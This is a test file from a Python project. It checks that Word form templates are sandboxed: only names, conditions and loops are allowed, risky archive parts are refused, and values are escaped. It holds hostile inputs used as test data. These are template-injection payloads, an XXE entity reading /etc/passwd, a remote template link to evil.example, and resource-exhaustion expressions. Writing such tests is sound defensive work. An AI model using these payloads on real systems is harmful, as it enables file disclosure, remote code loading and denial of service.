"""Word forms: what a template may not be and not say, whose wins, and what is filled in."""

import sys
import zipfile
from datetime import date
from decimal import Decimal
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from docx import Document

from zhibu.cli.doctor.finding import State
from zhibu.cli.doctor.printing import examine_templates
from zhibu.settings import Settings
from zhibu.settings.values import SettingInvalid
from zhibu.word import (
    Templates,
    WordMissing,
    WordTemplateBroken,
    WordTemplateMissing,
    opening,
    written,
)
from zhibu.word.writer import check


def template(place: Path, *paragraphs: str, name: str = "form", **parts: str) -> Path:
    """A document of these paragraphs, perhaps with a header and further parts of the archive."""
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.sections[0].header.paragraphs[0].text = parts.pop("header", "")
    document.core_properties.title = parts.pop("title", "")
    place.mkdir(parents=True, exist_ok=True)
    file = place / f"{name}.docx"
    document.save(str(file))
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        for part, content in parts.items():
            archive.writestr(part, content)
    return file


def text_of(content: bytes) -> list[str]:
    return [each.text for each in Document(BytesIO(content)).paragraphs]


def fault_of(file: Path, **values: Any) -> str:
    with pytest.raises(WordTemplateBroken) as broken:
        written(file, values)
    return str(broken.value.facts["fault"])


@pytest.mark.parametrize(
    "said",
    [
        "{{ name.__class__ }}",
        "{{ name['__class__'] }}",
        "{{ name.upper() }}",
        "{{ rows.append(1) }}",
        "{{ name|length }}",
        "{{ range(9) }}",
        "{{ cycler }}{{ cycler('a') }}",
        "{{ 'a' * 999999999 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ name ~ name }}",
        "{% set x = name %}",
        "{% include '/etc/passwd' %}",
        "{% import 'x' as x %}",
        "{% extends 'x' %}",
        "{% macro m() %}{% endmacro %}",
        "{% for a in 'abc' %}{% endfor %}",
        "{% for a in rows[0] %}{% endfor %}",
        "{% for a in rows %}" * 3 + "{% endfor %}" * 3,
        "{% for a in rows recursive %}{{ loop(a) }}{% endfor %}",
        "{% for a in rows %}{{ loop.cycle('a') }}{% endfor %}",
        "{{ name is defined }}",
        "{{ self }}{{ self.x() }}",
        "{% if name %}",
    ],
)
def test_a_template_says_no_more_than_names_conditions_and_loops(tmp_path: Path, said: str) -> None:
    assert fault_of(template(tmp_path, said), name="张三", rows=[[1]])


def test_what_a_template_may_not_say_is_found_before_anything_is_printed(tmp_path: Path) -> None:
    with pytest.raises(WordTemplateBroken) as broken:
        check(template(tmp_path, "好", "{{ name.upper() }}"))
    assert "a form may not say: call" in broken.value.facts["fault"]
    for place in ("header", "title"):
        with pytest.raises(WordTemplateBroken):
            check(template(tmp_path, "好", **{place: "{{ name.upper() }}"}))
    check(
        template(tmp_path, "{{ name }}{% if name == '张三' and not rows %}{{ row.of }}{% endif %}")
    )


def test_an_object_of_ours_tells_a_template_nothing(tmp_path: Path) -> None:
    assert text_of(written(template(tmp_path, "{{ path }}"), {"path": tmp_path})) == [""]
    assert "password" in fault_of(
        template(tmp_path, "{{ settings.password }}"), settings=Settings()
    )


def test_a_name_that_the_form_has_not_is_named(tmp_path: Path) -> None:
    assert "'nmae' is undefined" in fault_of(template(tmp_path, "{{ nmae }}"), name="张三")


@pytest.mark.parametrize(
    ("parts", "said"),
    [
        ({"word/vbaProject.bin": "x"}, "macros"),
        ({"word/embeddings/oleObject1.bin": "x"}, "embedded"),
        (
            {
                "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="1" Type="…/attach'
                'edTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
                "</Relationships>"
            },
            "from outside",
        ),
        ({"word/big.xml": " " * 31_000_000}, "unpacks"),
        ({f"word/{number}.xml": "" for number in range(600)}, "unpacks"),
    ],
)
def test_a_file_with_more_than_a_form_is_refused(
    tmp_path: Path, parts: dict[str, str], said: str
) -> None:
    assert said in fault_of(template(tmp_path, "好", **parts))


def test_what_is_no_word_document_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = tmp_path / "form.docx"
    for content in (b"", b"PK\x03\x04", b"%PDF-1.7", b"x" * 1000):
        file.write_bytes(content)
        assert "no Word document" in fault_of(file)
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("word/document.xml", "<a>")
    assert fault_of(file)
    bomb = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    with zipfile.ZipFile(template(tmp_path, "好"), "a") as archive:
        archive.writestr("word/footnotes.xml", bomb)
    check(file)
    monkeypatch.setattr(opening, "MOST_BYTES", 100)
    assert "larger than" in fault_of(template(tmp_path, "好"))
    assert fault_of(tmp_path / "nowhere.docx")


def test_values_are_text_whatever_they_say(tmp_path: Path) -> None:
    file = template(tmp_path, "{{ name }}", "{{ day }}，{{ fen }} 元", "{%p for row in rows %}",
                    "{{ loop.index }}.{{ row.of }}", "{%p endfor %}", "{{ lines }}")  # fmt: skip
    content = written(
        file,
        {
            "name": "<w:p>&张三\x00\x0b{{ day }}",
            "day": date(2026, 6, 15),
            "fen": Decimal("40.00"),
            "rows": [{"of": "甲"}, {"of": "乙"}],
            "lines": "一\n二",
        },
    )
    assert text_of(content) == [
        "<w:p>&张三{{ day }}",
        "2026年6月15日，40 元",
        "1.甲",
        "2.乙",
        "一\n二",
    ]


def test_an_institution_s_own_template_wins_over_the_installation_s_and_the_plugin_s(
    tmp_path: Path,
) -> None:
    ours, plugin = tmp_path / "ours", tmp_path / "plugin"
    found = Templates(ours)
    with pytest.raises(WordTemplateMissing):
        found.find("form", "yunling", [plugin])
    for folder in (plugin, ours, ours / "yunling"):
        template(folder, "好")
        assert found.find("form", "yunling", [plugin]) == folder / "form.docx"
    assert found.find("form", "qinghe", [plugin]) == ours / "form.docx"
    assert Templates().find("form", "yunling", [plugin]) == plugin / "form.docx"
    for bad in ("../yunling/form", "", "FORM", "form.docx"):
        with pytest.raises(WordTemplateMissing):
            found.find(bad, "qinghe", [plugin])


def test_bad_templates_are_all_named_when_the_product_starts_and_by_the_doctor(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "templates"
    settings = Settings(data=tmp_path, templates=folder)
    [found] = examine_templates(settings)
    assert (found.state, found.detail) == (State.FAULT, "no such folder")
    template(folder, "{{ name }}")
    [found] = examine_templates(settings)
    assert found.state is State.OK
    assert Templates.load(folder).folder == folder
    template(folder, "{{ name.upper() }}", name="other")
    template(folder / "yunling", "{% set x = 1 %}", name="own")
    (folder / "~$own.docx").write_bytes(b"")
    (folder / "page.html").write_text("{% for x %}", "utf-8")
    (folder / "latin.html").write_bytes(b"\xff\xfe")
    (folder / "good.html").write_text("{{ title }}", "utf-8")
    with pytest.raises(SettingInvalid) as refused:
        Templates.load(folder)
    said = refused.value.facts["fault"]
    for words in ("other.docx: a form may not say: call", "yunling/own.docx", "page", "latin"):
        assert words in said
    assert "good" not in said
    assert {each.state for each in examine_templates(settings)} == {State.FAULT}
    assert [*examine_templates(Settings(data=tmp_path))] == []


def test_without_docxtpl_it_is_said_what_is_missing(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    file = template(tmp_path, "好")
    monkeypatch.setitem(sys.modules, "docxtpl", None)
    with pytest.raises(WordMissing):
        written(file, {})
    assert [*Templates(tmp_path).faults()] == ["form.docx: needs zhibu[word]"]
